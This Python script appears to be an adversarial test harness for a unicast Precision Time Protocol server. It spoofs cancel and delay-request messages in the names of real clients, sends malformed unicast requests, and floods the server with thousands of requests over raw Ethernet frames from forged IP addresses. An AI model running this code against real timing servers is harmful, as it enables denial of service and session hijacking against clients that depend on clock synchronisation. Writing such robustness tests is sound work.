"""A stranger on the segment of a unicast server: floods, absurdities, and words in the name of others.

    unicast_attacker.py INTERFACE SERVER_ADDRESS SERVER_MAC OWN_ADDRESS CLIENT_ADDRESS=IDENTITY...

Runs in a namespace of its own. Exit status 0 when it has said all it wanted.
"""

from __future__ import annotations

import socket
import struct
import sys
import time

from ptpstack.wire.codec import encode
from ptpstack.wire.messages import DelayReq, Signaling
from ptpstack.wire.tlv import Tlv
from ptpstack.wire.tlvs.unicast import (
    AcknowledgeCancelUnicastTransmission,
    CancelUnicastTransmission,
    GrantUnicastTransmission,
    RequestUnicastTransmission,
)
from ptpstack.wire.types import ALL_CLOCKS, ALL_PORTS, Flag, PortIdentity

ANYBODY = PortIdentity(ALL_CLOCKS, ALL_PORTS)
KINDS = (0xB, 0x0, 0x9)


def name(number: int) -> PortIdentity:
    return PortIdentity(b"\x06\x00\x00\xff\xfe" + number.to_bytes(3, "big"), 1)


def signaling(identity: PortIdentity, *tlvs: Tlv) -> bytes:
    return encode(Signaling(identity, 0, flags=Flag.UNICAST, target=ANYBODY, tlvs=tlvs))


def checksum(octets: bytes) -> int:
    total = sum(struct.unpack(f">{len(octets) // 2}H", octets))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def datagram(source_mac: bytes, server_mac: bytes, source: str, server: str, payload: bytes) -> bytes:
    """An Ethernet frame with a UDP datagram to the general port from an address that need not be ours."""
    addresses = socket.inet_aton(source) + socket.inet_aton(server)
    head = struct.pack(">BBHHHBBH", 0x45, 0, 28 + len(payload), 0, 0, 64, 17, 0)
    head = struct.pack(">BBHHHBBH", 0x45, 0, 28 + len(payload), 0, 0, 64, 17, checksum(head + addresses))
    return (
        server_mac
        + source_mac
        + b"\x08\x00"
        + head
        + addresses
        + struct.pack(">HHHH", 320, 320, 8 + len(payload), 0)
        + payload
    )


def main(interface: str, server: str, server_mac: str, own: str, *victims: str) -> None:
    general = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    general.bind((own, 320))
    event = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    event.bind((own, 319))
    raw = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    raw.bind((interface, 0))
    mac = raw.getsockname()[4]
    theirs = bytes.fromhex(server_mac.replace(":", ""))

    # in the name of the clients: nothing of this may cost them anything
    for victim in victims:
        _, _, clock = victim.partition("=")
        identity = PortIdentity(bytes.fromhex(clock), 1)
        for _ in range(20):
            for kind in KINDS:
                for tlv in (CancelUnicastTransmission(kind), AcknowledgeCancelUnicastTransmission(kind)):
                    general.sendto(signaling(identity, tlv), (server, 320))
            general.sendto(signaling(identity, RequestUnicastTransmission(0, 0, 0)), (server, 320))
            event.sendto(encode(DelayReq(identity, 1, flags=Flag.UNICAST, control=1)), (server, 319))
            time.sleep(0.01)

    # the absurd, under a few names
    for number in range(60):
        general.sendto(
            signaling(
                name(number % 3),
                *(RequestUnicastTransmission(0, log, 300) for log in (-128, 127, -31)),
                RequestUnicastTransmission(0, 0, 0),
                RequestUnicastTransmission(0xB, -30, 2**32 - 1),
                RequestUnicastTransmission(number % 16, 0, 100),
                GrantUnicastTransmission(0, -7, 1000, 1),
            ),
            (server, 320),
        )
        time.sleep(0.01)

    # a thousand names at addresses that nobody has, each wanting Sync at 128/s
    for number in range(1000):
        payload = signaling(name(1000 + number), *(RequestUnicastTransmission(kind, -7, 1000) for kind in KINDS))
        source = f"10.78.0.{50 + number % 200}"
        raw.send(datagram(mac, theirs, source, server, payload))
        time.sleep(0.001)
    # and a burst from one address
    for number in range(3000):
        general.sendto(signaling(name(5000 + number), RequestUnicastTransmission(0, -7, 1000)), (server, 320))
    time.sleep(8)
    for number in range(500):
        payload = signaling(name(9000 + number), *(RequestUnicastTransmission(kind, -7, 1000) for kind in KINDS))
        raw.send(datagram(mac, theirs, f"10.78.0.{50 + number % 200}", server, payload))
        time.sleep(0.002)


if __name__ == "__main__":
    main(*sys.argv[1:])
    print("said it all")
